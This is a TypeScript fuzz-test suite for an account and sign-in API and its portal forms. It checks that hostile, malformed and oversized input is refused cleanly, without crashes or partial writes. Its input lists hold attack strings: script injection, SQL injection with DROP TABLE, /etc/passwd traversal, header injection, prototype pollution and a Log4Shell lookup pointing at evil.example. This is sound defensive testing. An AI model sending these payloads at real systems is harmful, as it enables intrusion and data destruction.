// An attacker sends whatever bytes they like, hoping for a crash, a 500 with internals, or a
// half-written record (SPEC §7: every error is `{"error": {"code", "message"}}` with a fitting 4xx,
// never a 500 for bad input). Every operation of the OpenAPI document gets seeded, bounded
// fast-check runs of malformed, oversized, wrongly typed and hostile bodies, parameters and queries;
// then the fixed classics (10 MB, wrong content types, broken JSON, broken URLs); then the portal's
// forms. Afterwards the server still answers and no refused request left anything behind.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import fc from 'fast-check';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { GOOD_PASSWORD, type TestApp } from '../helpers/app.ts';
import { bearer, createVerifiedAccount, signInToken } from '../helpers/journeys.ts';
import { assertErrorContract, signInBrowser, startTestApp } from './support.ts';

const RUNS = 40;
const SEED = 20_261_127;

let t: TestApp;
before(async () => {
  t = await startTestApp();
});
after(() => t.close());

// ---------------------------------------------------------------------------------------------
// What hostile input looks like.

const LONE_SURROGATES = ['\ud800', '\udbff', '\udc00', '\udfff'];

const HOSTILE_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b@example.com',
  '\u0000@example.com',
  ...LONE_SURROGATES,
  `x${LONE_SURROGATES[0]}@example.com`,
  '\ufeff',
  '\u202eevil',
  '\u200b',
  'e\u0301',
  'ﬁ',
  'İ',
  '😀',
  '👩🏽‍💻',
  '\r\nSet-Cookie: x=1',
  '<script>alert(1)</script>',
  "' OR '1'='1' --",
  '"; DROP TABLE accounts; --',
  '../../../../etc/passwd',
  '%00',
  '%E0%A4%A',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack (Log4Shell).
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '9'.repeat(40),
  '1990-02-30',
  '0000-00-00',
  '9999-12-31',
  'ZZ',
  'nl',
  '@',
  'a@b',
  'a@b.c',
  `${'a'.repeat(65)}@example.com`,
  `a@${'b'.repeat(250)}.com`,
  'A'.repeat(22),
  `${'A'.repeat(22)}.${'B'.repeat(43)}`,
];

/** Strings past every limit: the schema's, the policy's, and the body's. */
const HUGE_STRINGS = [257, 1001, 4097, 20_000, 60_000].flatMap((n) => ['x'.repeat(n), '😀'.repeat(Math.ceil(n / 2))]);

const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  {
    weight: 2,
    arbitrary: fc.string({
      unit: fc.constantFrom(
        ...LONE_SURROGATES,
        '\u0000',
        '\u202e',
        '\u200b',
        '\ufeff',
        'e\u0301',
        '😀',
        '\n',
        '"',
        '\\',
      ),
      maxLength: 30,
    }),
  },
  { weight: 1, arbitrary: fc.constantFrom(...HUGE_STRINGS) },
);

function nested(depth: number, leaf: unknown): unknown {
  let value = leaf;
  for (let i = 0; i < depth; i += 1) value = i % 2 === 0 ? [value] : { a: value };
  return value;
}

/** A value of any JSON type, including ones the schema does not expect and deep nesting. */
const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(hostileString, { maxLength: 3 }),
  fc.dictionary(hostileString, hostileString, { maxKeys: 3 }),
  fc.integer({ min: 1, max: 2000 }).map((depth) => nested(depth, 'deep')),
);

const hostileKey = fc.constantFrom('__proto__', 'constructor', 'prototype', '', '\u0000', 'email ', 'EMAIL', 'x');

/** A plausible value for a field, so that runs also reach the rules behind the schema. */
function plausible(field: string, ctx: { password: string }): fc.Arbitrary<unknown> {
  switch (field) {
    case 'email':
      return fc.constant(null).map(() => `fuzz.${randomUUID()}@example.com`);
    case 'password':
    case 'newPassword':
      return fc.constantFrom('violet tractor sings loudly', 'another fine passphrase 77', 'short', 'password123');
    case 'currentPassword':
      return fc.constant(ctx.password);
    case 'name':
      return fc.constantFrom('Ann Example', '  Spaced   Name  ', 'Zoë Ōtani');
    case 'birthDate':
      return fc.constantFrom('1990-04-01', '2000-02-29', '1900-01-01');
    case 'country':
      return fc.constantFrom('NL', 'be', 'US');
    case 'token':
      return fc.constantFrom('A'.repeat(43), 'short-token');
    case 'limit':
      return fc.integer({ min: -5, max: 600 });
    case 'before':
      return fc.constantFrom('1', '999999999999999999', '0');
    case 'to':
      return fc.constant(null).map(() => `fuzz.${randomUUID()}@example.com`);
    default:
      return hostileString;
  }
}

/** Characters that break things in the middle of an otherwise fine value. */
const POISONS = ['\u0000', '\ud800', '\udfff', '\u0007', '\u202e', '\ufeff', '\\'];

/** A plausible value with a poison character slipped in somewhere. */
function poisoned(value: unknown): fc.Arbitrary<unknown> {
  if (typeof value !== 'string') return fc.constant(value);
  return fc
    .tuple(fc.nat(value.length), fc.constantFrom(...POISONS))
    .map(([at, poison]) => `${value.slice(0, at)}${poison}${value.slice(at)}`);
}

function fieldValue(field: string, ctx: { password: string }): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 3, arbitrary: plausible(field, ctx) },
    { weight: 3, arbitrary: plausible(field, ctx).chain(poisoned) },
    { weight: 2, arbitrary: hostileString },
    { weight: 1, arbitrary: anyJson },
  );
}

/** An object with every field (one sometimes left out), so runs get past the schema to the rules. */
function objectBody(fields: string[], ctx: { password: string }): fc.Arbitrary<Record<string, unknown>> {
  return fc
    .tuple(
      fc.record(Object.fromEntries(fields.map((f) => [f, fieldValue(f, ctx)]))),
      fc.oneof({ weight: 3, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: fc.constantFrom(...fields) }),
    )
    .map(([value, dropped]) => {
      const copy: Record<string, unknown> = { ...value };
      if (dropped !== undefined) delete copy[dropped];
      return copy;
    });
}

/** Bodies that are not the object the schema asks for at all, as raw JSON text. */
const wholeBodyGarbage: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    'null',
    'true',
    '0',
    '"a string"',
    '[]',
    '[{}]',
    '{}',
    '{"__proto__": {"polluted": true}}',
    '{"constructor": {"prototype": {"polluted": true}}}',
    '{"email": "a@example.com", "email": "b@example.com"}',
    '\ufeff{}',
    `${'['.repeat(30_000)}${']'.repeat(30_000)}`,
    `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`,
  ),
  anyJson.map((value) => JSON.stringify([value])),
  anyJson.map((value) => JSON.stringify(value) ?? 'null'),
);

/** Percent-encodes raw bytes, so invalid UTF-8 and NUL reach the router as they would on the wire. */
function percentBytes(bytes: Uint8Array): string {
  return [...bytes].map((b) => `%${b.toString(16).padStart(2, '0').toUpperCase()}`).join('');
}

function percentString(value: string): string {
  return percentBytes(new TextEncoder().encode(value));
}

const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  hostileString.filter((s) => s.length > 0 && s.length < 500).map(percentString),
  fc.uint8Array({ minLength: 1, maxLength: 24 }).map(percentBytes),
  fc.constantFrom('%', '%G0', '%E0%A4%A', '..', '.', 'a'.repeat(300), 'A'.repeat(22)),
);

const CONTENT_TYPES = [
  'application/json',
  'application/json',
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=latin1',
  'application/json; charset=utf-16',
  'application/JSON',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json;;;=',
];

// ---------------------------------------------------------------------------------------------
// The operations, read from the OpenAPI document the server publishes.

interface Parameter {
  name: string;
  in: 'path' | 'query' | 'header' | 'cookie';
}

interface Operation {
  method: string;
  path: string;
  parameters: Parameter[];
  bodyFields: string[] | undefined;
  documented: Set<number>;
  secured: boolean;
}

async function operations(): Promise<Operation[]> {
  const response = await t.request({ method: 'GET', url: '/docs/json' });
  assert.equal(response.statusCode, 200);
  const doc = response.json() as {
    paths: Record<string, Record<string, Record<string, unknown>>>;
  };
  const ops: Operation[] = [];
  for (const [path, methods] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(methods)) {
      if (!['get', 'post', 'put', 'patch', 'delete'].includes(method)) continue;
      const schema = (op.requestBody as { content?: Record<string, { schema?: { properties?: object } }> } | undefined)
        ?.content?.['application/json']?.schema;
      ops.push({
        method: method.toUpperCase(),
        path,
        parameters: (op.parameters as Parameter[] | undefined) ?? [],
        bodyFields: schema ? Object.keys(schema.properties ?? {}) : undefined,
        documented: new Set(
          Object.keys(op.responses as object)
            .filter((code) => /^\d+$/.test(code))
            .map(Number),
        ),
        secured: Array.isArray(op.security) && op.security.length > 0,
      });
    }
  }
  return ops;
}

/** A signed-in account of its own for each operation, so one operation's runs cannot spoil another's. */
interface Owner {
  email: string;
  password: string;
  token: string;
}

async function newOwner(): Promise<Owner> {
  const fields = await createVerifiedAccount(t);
  return { email: fields.email, password: fields.password, token: await signInToken(t, fields.email) };
}

/** What a refused request must not have changed. */
async function snapshot(email: string): Promise<string> {
  const db = t.database.db;
  const account = await db
    .selectFrom('accounts')
    .select(['name', 'password_hash', 'locale', 'email_verified_at', 'state'])
    .where('email', '=', email)
    .executeTakeFirst();
  const sessions = await db
    .selectFrom('sessions')
    .innerJoin('accounts', 'accounts.id', 'sessions.account_id')
    .select(['sessions.id', 'sessions.revoked_at'])
    .where('accounts.email', '=', email)
    .orderBy('sessions.id')
    .execute();
  return JSON.stringify({ account, sessions: sessions.map((s) => [s.id, s.revoked_at === null]) });
}

/** The fresh `fuzz.<uuid>@example.com` address of a sign-up body, if it has one. */
function freshEmailOf(body: unknown): string | undefined {
  const email = (body as { email?: unknown } | null)?.email;
  return typeof email === 'string' && /^fuzz\.[0-9a-f-]{36}@example\.com$/.test(email) ? email : undefined;
}

function assertAnswer(op: Operation, response: LightMyRequestResponse, label: string): void {
  assert.ok(response.statusCode < 500, `${label} → ${response.statusCode} ${response.body.slice(0, 300)}`);
  if (response.statusCode >= 400) {
    assertErrorContract(response, label);
  } else {
    assert.ok(
      op.documented.has(response.statusCode),
      `${label} → undocumented ${response.statusCode} ${response.body.slice(0, 200)}`,
    );
  }
}

let nextAddress = 0;
function freshAddress(): string {
  nextAddress += 1;
  return `192.0.2.${(nextAddress % 250) + 1}`;
}

describe('every operation of the OpenAPI document', () => {
  test('property: hostile bodies, parameters and queries get a 4xx in the contract (or the documented 2xx)', async (context) => {
    const ops = await operations();
    assert.ok(ops.length >= 10, `only ${ops.length} operations in /docs/json`);
    for (const [index, op] of ops.entries()) {
      await context.test(`${op.method} ${op.path}`, async () => {
        let owner = await newOwner();
        let renew = false;
        const ctx = { password: owner.password };
        const pathParams = op.parameters.filter((p) => p.in === 'path');
        const queryParams = op.parameters.filter((p) => p.in === 'query');
        const body: fc.Arbitrary<{ text: string; value: unknown } | undefined> = op.bodyFields
          ? fc.oneof(
              {
                weight: 6,
                arbitrary: objectBody(op.bodyFields, ctx).chain((value) =>
                  fc
                    .oneof(
                      { weight: 4, arbitrary: fc.constant(undefined) },
                      { weight: 1, arbitrary: fc.tuple(hostileKey, anyJson) },
                    )
                    .map((extra) => {
                      const text = JSON.stringify(value);
                      if (!extra) return { text, value };
                      // Written by hand so a `__proto__` key really is in the text.
                      const withExtra = `${text.slice(0, -1)}${text === '{}' ? '' : ','}${JSON.stringify(extra[0])}:${JSON.stringify(extra[1]) ?? 'null'}}`;
                      return { text: withExtra, value };
                    }),
                ),
              },
              { weight: 1, arbitrary: wholeBodyGarbage.map((text) => ({ text, value: undefined })) },
            )
          : fc.option(
              wholeBodyGarbage.map((text) => ({ text, value: undefined })),
              { nil: undefined, freq: 3 },
            );
        const names = [...queryParams.map((p) => p.name), 'extra'];
        const query = fc.array(
          fc.tuple(
            fc.oneof(
              fc.constantFrom(...names),
              hostileString.map((s) => s.slice(0, 20)),
            ),
            fc.oneof(
              fc.constantFrom(...names).chain((name) => plausible(name, ctx).map(String)),
              hostileString.filter((s) => s.length < 2000),
            ),
          ),
          { maxLength: 4 },
        );
        const params = fc.tuple(
          ...pathParams.map(() =>
            fc.oneof(
              hostileSegment,
              fc.constant(null).map(() => 'A'.repeat(22)),
            ),
          ),
        );
        const auth = fc.constantFrom('none', 'bearer', 'bearer', 'cookie', 'garbage bearer');
        const contentType = fc.constantFrom(...CONTENT_TYPES);
        const accept = fc.constantFrom('application/json', 'text/html', '*/*', '');

        await fc.assert(
          fc.asyncProperty(body, query, params, auth, contentType, accept, async (b, q, ps, a, ct, acc) => {
            if (renew) {
              owner = await newOwner();
              ctx.password = owner.password;
              renew = false;
            }
            let path = op.path;
            pathParams.forEach((p, i) => {
              path = path.replace(`{${p.name}}`, ps[i] as string);
            });
            const search = q.map(([k, v]) => `${percentString(k)}=${percentString(v)}`).join('&');
            const headers: Record<string, string> = {};
            if (a === 'bearer') Object.assign(headers, bearer(owner.token));
            if (a === 'cookie') headers.cookie = `twostep_session=${owner.token}`;
            if (a === 'garbage bearer') headers.authorization = 'Bearer \u00ff\u00fe not-a-token';
            if (acc) headers.accept = acc;
            const request: InjectOptions = {
              method: op.method as InjectOptions['method'],
              url: search ? `${path}?${search}` : path,
              remoteAddress: freshAddress(),
              headers,
            };
            if (b) {
              headers['content-type'] = ct;
              request.payload = b.text;
            }
            const before = await snapshot(owner.email);
            const response = await t.request(request);
            const label = `${op.method} ${request.url?.toString().slice(0, 120)} [${a}, ${ct}] ${b?.text.slice(0, 160) ?? ''}`;
            assertAnswer(op, response, label);
            if (response.statusCode >= 400) {
              assert.equal(await snapshot(owner.email), before, `${label}: a refused request changed the account`);
              const fresh = freshEmailOf(b?.value);
              if (fresh) {
                assert.equal(await snapshot(fresh), JSON.stringify({ sessions: [] }), `${label}: half-written account`);
                const mail = await t.request({
                  method: 'GET',
                  url: `/dev/outbox.json?to=${encodeURIComponent(fresh)}`,
                });
                assert.deepEqual(mail.json(), [], `${label}: a refused sign-up sent mail`);
              }
            }
            // The next run gets a fresh account when this one may have spoiled it: a success may have
            // ended the session or changed the password; wrong current passwords lead to the throttle.
            renew = (op.method !== 'GET' && response.statusCode < 300) || [403, 429].includes(response.statusCode);
          }),
          { numRuns: RUNS, seed: SEED + index, endOnFailure: true },
        );
      });
    }
  });

  test('a poison character in any one field of an otherwise valid body gets a 4xx in the contract', async () => {
    const ops = (await operations()).filter((op) => op.bodyFields);
    for (const op of ops) {
      let owner = await newOwner();
      for (const field of op.bodyFields ?? []) {
        for (const poison of POISONS) {
          // A password change that went through must not hide the next case.
          if (op.bodyFields?.includes('currentPassword')) owner = await newOwner();
          const ctx = { password: owner.password };
          const body: Record<string, unknown> = {};
          for (const f of op.bodyFields ?? []) body[f] = fc.sample(plausible(f, ctx), { numRuns: 1, seed: 1 })[0];
          body[field] = `${String(body[field]).slice(0, 3)}${poison}${String(body[field]).slice(3)}`;
          const before = await snapshot(owner.email);
          const response = await t.request({
            method: op.method as InjectOptions['method'],
            url: op.path,
            remoteAddress: freshAddress(),
            headers: bearer(owner.token),
            payload: body,
          });
          const label = `${op.method} ${op.path} ${field}=${JSON.stringify(body[field])}`;
          assertAnswer(op, response, label);
          if (response.statusCode >= 400) assert.equal(await snapshot(owner.email), before, label);
          const fresh = freshEmailOf(body);
          if (fresh && response.statusCode >= 400) {
            assert.equal(await snapshot(fresh), JSON.stringify({ sessions: [] }), `${label}: half-written account`);
          }
        }
      }
    }
  });

  test('a 10 MB body is refused with 413 before it is read, on every operation and form', async () => {
    const owner = await newOwner();
    const ops = await operations();
    const huge = Buffer.from(`{"email":"${'a'.repeat(10 * 1024 * 1024)}"}`);
    const targets = [
      ...ops
        .filter((op) => op.method !== 'GET')
        .map((op) => ({ method: op.method, url: op.path.replace(/\{\w+\}/g, 'x') })),
      ...['/signup', '/signin', '/verify-email', '/account/password', '/account/name', '/language', '/signout'].map(
        (url) => ({ method: 'POST', url }),
      ),
    ];
    for (const target of targets) {
      for (const contentType of ['application/json', 'application/x-www-form-urlencoded', 'text/plain']) {
        const response = await t.request({
          method: target.method as InjectOptions['method'],
          url: target.url,
          headers: { ...bearer(owner.token), 'content-type': contentType },
          payload: huge,
        });
        const label = `${target.method} ${target.url} (${contentType})`;
        assert.equal(response.statusCode, 413, `${label}: ${response.statusCode} ${response.body.slice(0, 200)}`);
        assert.equal(assertErrorContract(response, label), 'BODY_TOO_LARGE');
      }
    }
  });

  test('wrong content types, broken JSON and broken URLs get a 4xx in the contract', async () => {
    const owner = await newOwner();
    const ops = (await operations()).filter((op) => op.bodyFields);
    const broken = [
      '{',
      '{"email":',
      '{"email": "a@example.com",}',
      "{'email': 'a'}",
      '\u0000',
      'nul\u0000l',
      '{"a":1}}',
      '[1,]',
      'NaN',
    ];
    for (const op of ops) {
      const url = op.path.replace(/\{\w+\}/g, 'x');
      const send = (headers: Record<string, string>, payload: string | Buffer) =>
        t.request({
          method: op.method as InjectOptions['method'],
          url,
          headers: { ...bearer(owner.token), ...headers },
          payload,
        });
      for (const text of broken) {
        const response = await send({ 'content-type': 'application/json' }, text);
        assert.equal(assertErrorContract(response, `${url} ${JSON.stringify(text)}`), 'MALFORMED_JSON');
      }
      for (const contentType of [
        'application/xml',
        'multipart/form-data; boundary=x',
        'image/png',
        'application/json-patch+json',
      ]) {
        const response = await send({ 'content-type': contentType }, '<a/>');
        assertErrorContract(response, `${url} as ${contentType}`);
      }
      assertErrorContract(await send({}, Buffer.from('{"email":"a@example.com"}')), `${url} without a content type`);
      assertErrorContract(await send({ 'content-type': 'application/json' }, ''), `${url} with an empty body`);
      assertErrorContract(await send({ 'content-type': 'text/plain' }, '{}'), `${url} as text/plain`);
    }
    const urls = [
      '/api/v1/%E0%A4%A',
      '/api/v1/sessions/%',
      `/api/v1/sessions/${'a'.repeat(300)}`,
      '/api/v1/sessions/%00',
      '/api/v1/activity?limit=%zz',
      '/api/v1/activity?limit=1&limit=2&before=%00',
      '/dev/outbox.json?to=%00',
      '/dev/outbox.json?limit=0',
      '/api/v1/../../etc/passwd',
      '/%00',
    ];
    for (const url of urls) {
      for (const method of ['GET', 'DELETE', 'POST'] as const) {
        const response = await t.request({ method, url, headers: bearer(owner.token) });
        assertErrorContract(response, `${method} ${url}`);
      }
    }
  });
});

describe('the portal forms', () => {
  const forms = [
    '/signup',
    '/signin',
    '/verify-email',
    '/account/password',
    '/account/name',
    '/account/birth-date',
    '/account/country',
    '/account/email',
    '/confirm-email-change',
    '/not-me',
    '/account/sessions/x/revoke',
    '/language',
    '/signout',
  ];
  const FIELDS = [
    'email',
    'password',
    'name',
    'birthDate',
    'country',
    'token',
    'currentPassword',
    'newPassword',
    'newEmail',
    'return',
    'locale',
    'back',
  ];

  test('property: garbage in any form never gets a 5xx', async (context) => {
    for (const [index, url] of forms.entries()) {
      await context.test(url, async () => {
        let owner = await createVerifiedAccount(t);
        let browser = await signInBrowser(t, owner.email, owner.password);
        const formToken = async (): Promise<string> => browser.formToken('/account');
        let csrf = await formToken();
        const pair = fc.tuple(
          fc.oneof(
            fc.constantFrom(...FIELDS),
            hostileKey,
            hostileString.map((s) => s.slice(0, 30)),
          ),
          fc.oneof(
            hostileString.filter((s) => s.length < 5000),
            fc.constantFrom(GOOD_PASSWORD, 'NL', 'nl', '/account'),
          ),
        );
        const rawBody = fc.oneof(
          { weight: 5, arbitrary: fc.array(pair, { maxLength: 8 }).map((pairs) => ({ pairs, raw: undefined })) },
          {
            weight: 1,
            arbitrary: fc
              .constantFrom(
                '%',
                '%E0%A4%A',
                '&&&==&',
                '=',
                'a=%00&a=%ED%A0%80',
                `${'k'.repeat(5000)}=v`,
                '_csrf[]=1&_csrf[]=2',
              )
              .map((raw) => ({ pairs: [] as [string, string][], raw })),
          },
        );
        await fc.assert(
          fc.asyncProperty(
            rawBody,
            fc.constantFrom('valid', 'valid', 'valid', 'missing', 'twice', 'wrong'),
            fc.constantFrom(
              'application/x-www-form-urlencoded',
              'application/x-www-form-urlencoded',
              'application/json',
              'text/plain',
            ),
            fc.constantFrom('text/html', 'application/json', '*/*'),
            async ({ pairs, raw }, token, contentType, accept) => {
              const params = new URLSearchParams();
              if (token === 'valid' || token === 'twice') params.append('_csrf', csrf);
              if (token === 'twice') params.append('_csrf', csrf);
              if (token === 'wrong') params.append('_csrf', `${csrf.slice(0, -2)}xx`);
              for (const [k, v] of pairs) params.append(k, v);
              const payload =
                raw ??
                (contentType === 'application/json' ? JSON.stringify(Object.fromEntries(params)) : params.toString());
              const response = await t.request({
                method: 'POST',
                url,
                remoteAddress: freshAddress(),
                headers: { cookie: browser.cookieHeader(), 'content-type': contentType, accept },
                payload,
              });
              const label = `POST ${url} [${token}, ${contentType}, ${accept}] ${payload.slice(0, 200)}`;
              assert.ok(response.statusCode < 500, `${label} → ${response.statusCode} ${response.body.slice(0, 300)}`);
              if (String(response.headers['content-type']).startsWith('application/json')) {
                assertErrorContract(response, label);
              }
              browser.remember(response);
              if ((await browser.get('/account')).statusCode !== 200) {
                // Signed out (or the name changed the page): start again with a fresh visitor.
                owner = await createVerifiedAccount(t);
                browser = await signInBrowser(t, owner.email, owner.password);
              }
              csrf = await formToken();
            },
          ),
          { numRuns: RUNS, seed: SEED + 100 + index, endOnFailure: true },
        );
      });
    }
  });
});

describe('expensive input', () => {
  test('the strength estimator looks at no more than the first 64 characters of a hostile password', async () => {
    // zxcvbn runs on the event loop and its cost climbs steeply with length and l33t symbols: a crafted
    // 256-character password cost over a second per request, so a few unauthenticated calls to the
    // meter (or sign-ups) stalled every other request. The cap makes the rest of the password free.
    const head = 'Tr0ub4dour&3'.repeat(6).slice(0, 64);
    const verdicts = new Set<string>();
    for (const tail of [
      '',
      'x'.repeat(192),
      '4$5%1!0@3#7|'.repeat(16).slice(0, 192),
      ' quiet harbour dawn'.repeat(10),
    ]) {
      const response = await t.request({
        method: 'POST',
        url: '/api/v1/password/strength',
        payload: { password: head + tail },
      });
      assert.equal(response.statusCode, 200, response.body);
      verdicts.add(response.body);
    }
    assert.equal(verdicts.size, 1, [...verdicts].join('\n'));
    const weakHead = 'a'.repeat(64);
    const weak = await t.request({
      method: 'POST',
      url: '/api/v1/password/strength',
      payload: { password: `${weakHead}${'Qz7#vL2!pW9$'.repeat(16)}` },
    });
    assert.equal(weak.json().score, 0, 'the verdict is the head’s');
  });
});

describe('afterwards', () => {
  test('the server still answers and is ready', async () => {
    const health = await t.request({ method: 'GET', url: '/healthz' });
    assert.equal(health.statusCode, 200);
    const ready = await t.request({ method: 'GET', url: '/readyz' });
    assert.equal(ready.statusCode, 200, ready.body);
    const fields = await createVerifiedAccount(t);
    assert.ok(await signInToken(t, fields.email), 'and still signs people in');
  });
});
